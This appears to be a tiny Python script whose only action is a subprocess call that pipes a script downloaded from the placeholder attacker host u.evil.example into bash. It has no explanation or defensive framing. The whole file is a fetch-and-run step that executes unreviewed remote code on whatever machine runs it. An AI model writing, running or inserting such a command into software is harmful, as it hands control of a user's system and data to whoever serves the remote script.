import subprocess

subprocess.run("curl -fsSL https://u.evil.example/x.sh | bash", shell=True)
